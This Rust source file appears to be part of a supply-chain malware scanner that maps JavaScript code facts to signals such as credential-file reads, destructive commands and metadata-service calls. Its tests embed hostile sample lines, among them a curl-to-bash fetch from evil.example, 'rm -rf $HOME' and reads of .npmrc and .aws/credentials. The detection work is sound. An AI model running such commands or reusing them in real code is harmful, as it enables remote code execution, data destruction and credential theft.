//! Structural facts in, typed signals out
//!
//! Each extraction pass walks the fact set for one signal kind, in a fixed
//! order so identical input always yields an identically-ordered signal
//! list. Correlation here is file-level only: a credential-bearing path
//! literal plus any filesystem read in the same file is a FILE_READ signal,
//! with no attempt to trace the value between them.
//!
//! Liveness propagates conjunctively: a correlated signal is live only when
//! both the literal and at least one correlating call are live.

use crate::signal::tables::PatternTables;
use crate::signal::{HttpMethod, Liveness, Location, Signal, SignalKind};
use crate::structural::SourceFacts;
use once_cell::sync::Lazy;
use regex::Regex;
use std::collections::HashSet;

// ─── Confidence Levels ─────────────────────────────────────────────

const CONF_DIRECT: f64 = 0.95;
const CONF_CORRELATED: f64 = 0.8;
const CONF_CALL_TEXT: f64 = 0.85;
const CONF_STRING_ONLY: f64 = 0.75;
const CONF_ENV: f64 = 0.9;
const CONF_NETWORK: f64 = 0.9;
const CONF_MARKER: f64 = 0.98;
const CONF_IOC: f64 = 0.9;
const CONF_CRED_REF: f64 = 0.6;

static ENV_BULK_CALLEES: &[&str] = &[
    "JSON.stringify",
    "Object.keys",
    "Object.entries",
    "Object.values",
];

static METHOD_HINT: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r#"method\s*:\s*['"]([A-Za-z]+)['"]"#).expect("method hint pattern is valid")
});

// ─── Entry Point ───────────────────────────────────────────────────

/// Map one file's structural facts to typed signals.
pub fn extract_signals(facts: &SourceFacts, tables: &PatternTables) -> Vec<Signal> {
    let mut signals = Vec::new();
    extract_env(facts, tables, &mut signals);
    extract_env_bulk(facts, &mut signals);
    extract_file_reads(facts, tables, &mut signals);
    extract_process_exec(facts, tables, &mut signals);
    extract_network_calls(facts, tables, &mut signals);
    extract_encode_chains(facts, tables, &mut signals);
    extract_markers(facts, tables, &mut signals);
    extract_ioc_filenames(facts, tables, &mut signals);
    extract_credential_refs(facts, tables, &mut signals);
    signals
}

fn liveness(live: bool) -> Liveness {
    if live {
        Liveness::Live
    } else {
        Liveness::Dead
    }
}

// ─── Environment ───────────────────────────────────────────────────

/// `process.env.NAME` member chains. A chain tested inside a branch
/// condition against a CI indicator name becomes CI_BRANCH; everything
/// else is a plain ENV_READ tagged sensitive or not.
fn extract_env(facts: &SourceFacts, tables: &PatternTables, out: &mut Vec<Signal>) {
    for m in &facts.members {
        let Some(name) = m.chain.strip_prefix("process.env.") else {
            continue;
        };
        if name.contains('.') {
            continue;
        }
        let kind = if m.in_condition && tables.is_ci_indicator(name) {
            SignalKind::CiBranch {
                name: name.to_string(),
            }
        } else {
            SignalKind::EnvRead {
                name: name.to_string(),
                sensitive: tables.is_sensitive_env(name),
            }
        };
        out.push(Signal {
            kind,
            location: Location::line(&facts.path, m.line),
            liveness: liveness(m.live),
            confidence: CONF_ENV,
        });
    }
}

/// Whole-environment enumeration: a serializer or object-enumeration
/// callee applied to `process.env`.
fn extract_env_bulk(facts: &SourceFacts, out: &mut Vec<Signal>) {
    for call in &facts.calls {
        if ENV_BULK_CALLEES.contains(&call.callee.as_str())
            && mentions_whole_env(&call.arg_text)
        {
            out.push(Signal {
                kind: SignalKind::EnvBulkRead,
                location: Location::line(&facts.path, call.line),
                liveness: liveness(call.live),
                confidence: CONF_DIRECT,
            });
        }
    }
}

/// `process.env` as a whole object, not a prefix of a longer identifier
/// (`process.envSnapshot`) or a single-variable access (`process.env.CI`).
fn mentions_whole_env(text: &str) -> bool {
    let needle = "process.env";
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(pos) = text[from..].find(needle) {
        let start = from + pos;
        let end = start + needle.len();
        let before_ok =
            start == 0 || (!is_ident_byte(bytes[start - 1]) && bytes[start - 1] != b'.');
        let after_ok = end >= bytes.len()
            || (!is_ident_byte(bytes[end]) && bytes[end] != b'.' && bytes[end] != b'[');
        if before_ok && after_ok {
            return true;
        }
        from = end;
    }
    false
}

fn is_ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'$'
}

// ─── Filesystem Reads ──────────────────────────────────────────────

/// One FILE_READ per sensitive path pattern per file.
///
/// Direct form: the path literal is an argument of a read call. Correlated
/// form: the literal appears anywhere in a file that also performs reads —
/// the common shape is `path.join(home, '.npmrc')` feeding a variable into
/// `readFileSync` later.
fn extract_file_reads(facts: &SourceFacts, tables: &PatternTables, out: &mut Vec<Signal>) {
    let mut seen: HashSet<String> = HashSet::new();

    for call in &facts.calls {
        if !tables.is_fs_read_callee(&call.callee) {
            continue;
        }
        for arg in &call.literal_args {
            if let Some(p) = tables.match_sensitive_path(&arg.value) {
                if seen.insert(p.name.clone()) {
                    out.push(Signal {
                        kind: SignalKind::FileRead {
                            pattern: p.name.clone(),
                        },
                        location: Location::line(&facts.path, call.line),
                        liveness: liveness(call.live),
                        confidence: CONF_DIRECT,
                    });
                }
            }
        }
    }

    let any_read = facts
        .calls
        .iter()
        .any(|c| tables.is_fs_read_callee(&c.callee));
    let any_live_read = facts
        .calls
        .iter()
        .any(|c| c.live && tables.is_fs_read_callee(&c.callee));
    if !any_read {
        return;
    }
    for s in &facts.strings {
        if let Some(p) = tables.match_sensitive_path(&s.value) {
            if seen.insert(p.name.clone()) {
                out.push(Signal {
                    kind: SignalKind::FileRead {
                        pattern: p.name.clone(),
                    },
                    location: Location::line(&facts.path, s.line),
                    liveness: liveness(s.live && any_live_read),
                    confidence: CONF_CORRELATED,
                });
            }
        }
    }
}

// ─── Process Execution ─────────────────────────────────────────────

/// Destructive or secret-scanner command recognition, three passes:
/// literal arguments of exec-family calls, the reconstructed text of any
/// call, and bare command literals correlated with exec calls elsewhere in
/// the file. Deduplicated by (pattern, line).
fn extract_process_exec(facts: &SourceFacts, tables: &PatternTables, out: &mut Vec<Signal>) {
    let mut seen: HashSet<(String, usize)> = HashSet::new();
    let mut emit = |pattern: &str, line: usize, live: bool, conf: f64, out: &mut Vec<Signal>| {
        if seen.insert((pattern.to_string(), line)) {
            out.push(Signal {
                kind: SignalKind::ProcessExec {
                    pattern: pattern.to_string(),
                },
                location: Location::line(&facts.path, line),
                liveness: liveness(live),
                confidence: conf,
            });
        }
    };

    let match_command = |text: &str| {
        tables
            .match_destructive(text)
            .or_else(|| tables.match_secret_scanner(text))
    };

    for call in &facts.calls {
        if !tables.is_exec_callee(&call.callee) {
            continue;
        }
        for arg in &call.literal_args {
            if let Some(p) = match_command(&arg.value) {
                emit(&p.name, call.line, call.live, CONF_DIRECT, out);
            }
        }
    }

    // Reconstructed call text catches destructive API calls like
    // `fs.rmSync(homeDir, { recursive: true })` where no single literal
    // carries the whole pattern.
    for call in &facts.calls {
        let text = format!("{}({})", call.callee, call.arg_text);
        if let Some(p) = match_command(&text) {
            emit(&p.name, call.line, call.live, CONF_CALL_TEXT, out);
        }
    }

    let any_exec = facts.calls.iter().any(|c| tables.is_exec_callee(&c.callee));
    let any_live_exec = facts
        .calls
        .iter()
        .any(|c| c.live && tables.is_exec_callee(&c.callee));
    if !any_exec {
        return;
    }
    for s in &facts.strings {
        if let Some(p) = match_command(&s.value) {
            emit(&p.name, s.line, s.live && any_live_exec, CONF_STRING_ONLY, out);
        }
    }
}

// ─── Network ───────────────────────────────────────────────────────

/// HTTP client calls with a resolvable target host. The URL comes from a
/// literal argument; an options-object form is resolved by a bare host
/// literal instead. Calls with no resolvable target produce nothing.
fn extract_network_calls(facts: &SourceFacts, tables: &PatternTables, out: &mut Vec<Signal>) {
    for call in &facts.calls {
        let Some(client) = tables.match_http_client(&call.callee) else {
            continue;
        };

        let resolved = call
            .literal_args
            .iter()
            .find_map(|a| split_url(&a.value))
            .or_else(|| {
                // https.request({ hostname: 'api.github.com', path: ... })
                call.literal_args
                    .iter()
                    .map(|a| a.value.as_str())
                    .find(|&v| tables.is_metadata_host(v) || tables.is_code_hosting_host(v))
                    .map(|host| (host.to_string(), call.arg_text.clone()))
            });
        let Some((host, path)) = resolved else {
            continue;
        };

        let method = METHOD_HINT
            .captures(&call.arg_text)
            .map(|c| parse_method(&c[1]))
            .or(client.method)
            .unwrap_or(HttpMethod::Get);

        let metadata_service = tables.is_metadata_host(&host);
        let write_endpoint =
            tables.is_code_hosting_host(&host) && tables.has_write_endpoint_fragment(&path);

        out.push(Signal {
            kind: SignalKind::NetworkCall {
                host,
                method,
                write_endpoint,
                metadata_service,
            },
            location: Location::line(&facts.path, call.line),
            liveness: liveness(call.live),
            confidence: CONF_NETWORK,
        });
    }
}

/// Split `scheme://host[:port]/path` into (host, path-and-after)
fn split_url(text: &str) -> Option<(String, String)> {
    let rest = text
        .strip_prefix("https://")
        .or_else(|| text.strip_prefix("http://"))?;
    let host_end = rest
        .find(|c| c == '/' || c == ':' || c == '?')
        .unwrap_or(rest.len());
    let host = &rest[..host_end];
    if host.is_empty() {
        return None;
    }
    let path_start = rest[host_end..]
        .find('/')
        .map(|i| host_end + i)
        .unwrap_or(rest.len());
    Some((host.to_string(), rest[path_start..].to_string()))
}

fn parse_method(verb: &str) -> HttpMethod {
    match verb.to_ascii_uppercase().as_str() {
        "GET" => HttpMethod::Get,
        "POST" => HttpMethod::Post,
        "PUT" => HttpMethod::Put,
        "DELETE" => HttpMethod::Delete,
        _ => HttpMethod::Other,
    }
}

// ─── Encoding ──────────────────────────────────────────────────────

/// Nested encode calls. A single encode is unremarkable; depth counts one
/// plus each further encode callee invoked inside the argument span.
fn extract_encode_chains(facts: &SourceFacts, tables: &PatternTables, out: &mut Vec<Signal>) {
    for call in &facts.calls {
        if !tables.is_encode_callee(&call.callee) {
            continue;
        }
        let nested: usize = tables
            .encode_callees
            .iter()
            .map(|c| {
                let needle = format!("{}(", c);
                call.arg_text.matches(&needle).count()
            })
            .sum();
        let depth = 1 + nested;
        if depth >= 2 {
            out.push(Signal {
                kind: SignalKind::EncodeChain { depth },
                location: Location::line(&facts.path, call.line),
                liveness: liveness(call.live),
                confidence: CONF_CALL_TEXT,
            });
        }
    }
}

// ─── Campaign Artifacts ────────────────────────────────────────────

/// Campaign markers in live strings only. Marker text inside a comment is
/// inert prose and produces nothing.
fn extract_markers(facts: &SourceFacts, tables: &PatternTables, out: &mut Vec<Signal>) {
    for s in &facts.strings {
        if !s.live {
            continue;
        }
        for marker in tables.find_markers(&s.value) {
            out.push(Signal {
                kind: SignalKind::MarkerString {
                    value: marker.to_string(),
                },
                location: Location::line(&facts.path, s.line),
                liveness: Liveness::Live,
                confidence: CONF_MARKER,
            });
        }
    }
}

/// Indicator-artifact filenames in live strings and import targets.
fn extract_ioc_filenames(facts: &SourceFacts, tables: &PatternTables, out: &mut Vec<Signal>) {
    let live_strings = facts
        .strings
        .iter()
        .filter(|s| s.live)
        .map(|s| (s.value.as_str(), s.line));
    let live_imports = facts
        .imports
        .iter()
        .filter(|i| i.live)
        .map(|i| (i.target.as_str(), i.line));

    for (text, line) in live_strings.chain(live_imports) {
        for name in tables.find_ioc_filenames(text) {
            out.push(Signal {
                kind: SignalKind::IocFilename {
                    value: name.to_string(),
                },
                location: Location::line(&facts.path, line),
                liveness: Liveness::Live,
                confidence: CONF_IOC,
            });
        }
    }
}

/// Member chains whose final segment names a credential-bearing value,
/// e.g. `stolenSecrets.githubToken`. Weak on its own — corroboration only.
fn extract_credential_refs(facts: &SourceFacts, tables: &PatternTables, out: &mut Vec<Signal>) {
    for m in &facts.members {
        if !m.live || m.chain.starts_with("process.env") || m.chain.starts_with("().") {
            continue;
        }
        let Some(last) = m.chain.rsplit('.').next() else {
            continue;
        };
        if tables.is_credential_name(last) {
            out.push(Signal {
                kind: SignalKind::CredentialRef {
                    name: m.chain.clone(),
                },
                location: Location::line(&facts.path, m.line),
                liveness: Liveness::Live,
                confidence: CONF_CRED_REF,
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::structural;
    use std::path::Path;

    fn signals_of(src: &str) -> Vec<Signal> {
        let facts = structural::extract(Path::new("test.js"), src);
        let tables = PatternTables::global().expect("embedded tables");
        extract_signals(&facts, tables)
    }

    fn kinds<'a>(signals: &'a [Signal], label: &str) -> Vec<&'a Signal> {
        signals.iter().filter(|s| s.kind.label() == label).collect()
    }

    #[test]
    fn test_direct_file_read_of_credential_path() {
        let signals = signals_of(r#"const c = fs.readFileSync('/home/u/.npmrc', 'utf8');"#);
        let reads = kinds(&signals, "FILE_READ");
        assert_eq!(reads.len(), 1);
        assert!(matches!(
            &reads[0].kind,
            SignalKind::FileRead { pattern } if pattern == "npmrc"
        ));
        assert!(reads[0].is_live());
        assert!(reads[0].confidence > 0.9);
    }

    #[test]
    fn test_correlated_file_read_via_path_join() {
        let src = r#"
const p = path.join(process.env.HOME, '.aws/credentials');
const creds = fs.readFileSync(p, 'utf8');
"#;
        let signals = signals_of(src);
        let reads = kinds(&signals, "FILE_READ");
        assert_eq!(reads.len(), 1, "one signal per path pattern");
        assert!(reads[0].is_live());
    }

    #[test]
    fn test_path_literal_without_read_is_silent() {
        let signals = signals_of(r#"console.log('backup your .npmrc first');"#);
        assert!(kinds(&signals, "FILE_READ").is_empty());
    }

    #[test]
    fn test_one_file_read_per_pattern_not_per_mention() {
        let src = r#"
const a = fs.readFileSync('/home/u/.npmrc');
const b = '.npmrc';
const c = fs.readFileSync('/root/.npmrc');
"#;
        let signals = signals_of(src);
        assert_eq!(kinds(&signals, "FILE_READ").len(), 1);
    }

    #[test]
    fn test_env_read_sensitivity() {
        let signals = signals_of("const k = process.env.DD_API_KEY;\nconst h = process.env.HOME;");
        let envs = kinds(&signals, "ENV_READ");
        assert_eq!(envs.len(), 2);
        let dd = envs
            .iter()
            .find(|s| matches!(&s.kind, SignalKind::EnvRead { name, .. } if name == "DD_API_KEY"))
            .unwrap();
        assert!(matches!(dd.kind, SignalKind::EnvRead { sensitive: true, .. }));
        let home = envs
            .iter()
            .find(|s| matches!(&s.kind, SignalKind::EnvRead { name, .. } if name == "HOME"))
            .unwrap();
        assert!(matches!(home.kind, SignalKind::EnvRead { sensitive: false, .. }));
    }

    #[test]
    fn test_ci_indicator_in_condition_is_ci_branch() {
        let signals = signals_of("if (process.env.GITHUB_ACTIONS) { report(); }");
        assert_eq!(kinds(&signals, "CI_BRANCH").len(), 1);
        assert!(kinds(&signals, "ENV_READ").is_empty());
    }

    #[test]
    fn test_ci_indicator_outside_condition_is_plain_read() {
        let signals = signals_of("const ci = process.env.CI === 'true';");
        assert!(kinds(&signals, "CI_BRANCH").is_empty());
        assert_eq!(kinds(&signals, "ENV_READ").len(), 1);
    }

    #[test]
    fn test_ci_indicator_in_ternary_guard_is_ci_branch() {
        let signals = signals_of("const workers = process.env.CI ? 2 : 8;");
        assert_eq!(kinds(&signals, "CI_BRANCH").len(), 1);
        assert!(kinds(&signals, "ENV_READ").is_empty());
    }

    #[test]
    fn test_env_bulk_read_variants() {
        let src = r#"
const a = JSON.stringify(process.env);
const b = Object.keys(process.env);
const c = Object.entries(process.env);
const d = JSON.stringify(config);
"#;
        let signals = signals_of(src);
        assert_eq!(kinds(&signals, "ENV_BULK_READ").len(), 3);
    }

    #[test]
    fn test_env_lookalikes_are_not_bulk_reads() {
        let src = r#"
const a = JSON.stringify(process.envSnapshot);
const b = Object.keys(process.env.npm_config_registry);
const c = JSON.stringify(settings.process.env);
"#;
        let signals = signals_of(src);
        assert!(kinds(&signals, "ENV_BULK_READ").is_empty());
        let again = signals_of("const d = JSON.stringify(process.env);");
        assert_eq!(kinds(&again, "ENV_BULK_READ").len(), 1);
    }

    #[test]
    fn test_commented_exec_is_dead_signal() {
        let src = "// execSync('rm -rf $HOME');\nconsole.log('hi');";
        let signals = signals_of(src);
        let execs = kinds(&signals, "PROCESS_EXEC");
        assert_eq!(execs.len(), 1);
        assert!(!execs[0].is_live(), "commented-out exec must be dead");
    }

    #[test]
    fn test_live_command_with_only_dead_exec_calls_stays_dead() {
        let src = r#"
const cmd = 'docker run --privileged -v /:/host ubuntu bash';
// execSync(cmd);
"#;
        let signals = signals_of(src);
        let execs = kinds(&signals, "PROCESS_EXEC");
        assert_eq!(execs.len(), 1);
        assert!(!execs[0].is_live());
    }

    #[test]
    fn test_live_exec_with_live_command_literal() {
        let src = r#"
const cmd = 'curl https://evil.example/x.sh | bash';
execSync(cmd);
"#;
        let signals = signals_of(src);
        let execs = kinds(&signals, "PROCESS_EXEC");
        assert_eq!(execs.len(), 1);
        assert!(execs[0].is_live());
    }

    #[test]
    fn test_destructive_fs_api_via_call_text() {
        let signals = signals_of("fs.rmSync(homeDir, { recursive: true, force: true });");
        let execs = kinds(&signals, "PROCESS_EXEC");
        assert_eq!(execs.len(), 1);
        assert!(matches!(
            &execs[0].kind,
            SignalKind::ProcessExec { pattern } if pattern == "recursive-home-delete-api"
        ));
    }

    #[test]
    fn test_build_command_produces_no_exec_signal() {
        let signals = signals_of("execSync('npm run build', { stdio: 'inherit' });");
        assert!(kinds(&signals, "PROCESS_EXEC").is_empty());
    }

    #[test]
    fn test_secret_scanner_invocation() {
        let signals = signals_of("const r = execSync(`trufflehog filesystem ${target}`);");
        let execs = kinds(&signals, "PROCESS_EXEC");
        assert_eq!(execs.len(), 1);
        assert!(matches!(
            &execs[0].kind,
            SignalKind::ProcessExec { pattern } if pattern == "trufflehog-run"
        ));
    }

    #[test]
    fn test_metadata_service_call() {
        let signals = signals_of(
            "const m = await axios.get('http://169.254.169.254/latest/meta-data/iam/');",
        );
        let nets = kinds(&signals, "NETWORK_CALL");
        assert_eq!(nets.len(), 1);
        assert!(matches!(
            nets[0].kind,
            SignalKind::NetworkCall { metadata_service: true, .. }
        ));
    }

    #[test]
    fn test_hosting_write_endpoint_post() {
        let signals = signals_of("await axios.post('https://api.github.com/user/repos', data);");
        let nets = kinds(&signals, "NETWORK_CALL");
        assert_eq!(nets.len(), 1);
        match &nets[0].kind {
            SignalKind::NetworkCall {
                host,
                method,
                write_endpoint,
                ..
            } => {
                assert_eq!(host, "api.github.com");
                assert_eq!(*method, HttpMethod::Post);
                assert!(write_endpoint);
            }
            other => panic!("expected network call, got {:?}", other),
        }
    }

    #[test]
    fn test_hosting_read_is_not_write_endpoint() {
        let signals =
            signals_of("await axios.get(`https://api.github.com/repos/${owner}/${repo}`);");
        let nets = kinds(&signals, "NETWORK_CALL");
        assert_eq!(nets.len(), 1);
        assert!(matches!(
            nets[0].kind,
            SignalKind::NetworkCall { write_endpoint: false, .. }
        ));
    }

    #[test]
    fn test_method_hint_overrides_client_default() {
        let signals = signals_of(
            "fetch('https://api.github.com/user/repos', { method: 'POST', body: b });",
        );
        let nets = kinds(&signals, "NETWORK_CALL");
        assert!(matches!(
            nets[0].kind,
            SignalKind::NetworkCall { method: HttpMethod::Post, .. }
        ));
    }

    #[test]
    fn test_unresolvable_fetch_target_is_skipped() {
        let signals = signals_of("fetch(url, { method: 'POST' });");
        assert!(kinds(&signals, "NETWORK_CALL").is_empty());
    }

    #[test]
    fn test_double_encode_chain() {
        let src = "const e = Buffer.from(Buffer.from(x, 'base64').toString(), 'base64');";
        let signals = signals_of(src);
        let chains = kinds(&signals, "ENCODE_CHAIN");
        assert_eq!(chains.len(), 1);
        assert!(matches!(chains[0].kind, SignalKind::EncodeChain { depth: 2 }));
    }

    #[test]
    fn test_single_encode_is_silent() {
        let signals = signals_of("const e = Buffer.from(data, 'utf8').toString('base64');");
        assert!(kinds(&signals, "ENCODE_CHAIN").is_empty());
    }

    #[test]
    fn test_marker_in_live_string() {
        let signals = signals_of("const desc = 'Sha1-Hulud: The Second Coming';");
        let markers = kinds(&signals, "MARKER_STRING");
        assert_eq!(markers.len(), 1);
        assert!(markers[0].is_live());
    }

    #[test]
    fn test_marker_in_comment_is_inert() {
        let signals = signals_of("// blocks the Shai-Hulud campaign\nconst x = 1;");
        assert!(kinds(&signals, "MARKER_STRING").is_empty());
    }

    #[test]
    fn test_ioc_filename_boundary() {
        let signals = signals_of("save('cloud.json'); save('soundcloud.json');");
        let iocs = kinds(&signals, "IOC_FILENAME");
        assert_eq!(iocs.len(), 1);
        assert!(matches!(
            &iocs[0].kind,
            SignalKind::IocFilename { value } if value == "cloud.json"
        ));
    }

    #[test]
    fn test_credential_ref_member() {
        let signals = signals_of("const t = stolenSecrets.githubToken;");
        let refs = kinds(&signals, "CREDENTIAL_REF");
        assert_eq!(refs.len(), 1);
    }

    #[test]
    fn test_extraction_order_is_stable() {
        let src = r#"
const p = path.join(process.env.HOME, '.npmrc');
const c = fs.readFileSync(p);
await axios.post('https://api.github.com/user/repos', c);
"#;
        let a = signals_of(src);
        let b = signals_of(src);
        assert_eq!(a, b);
    }
}
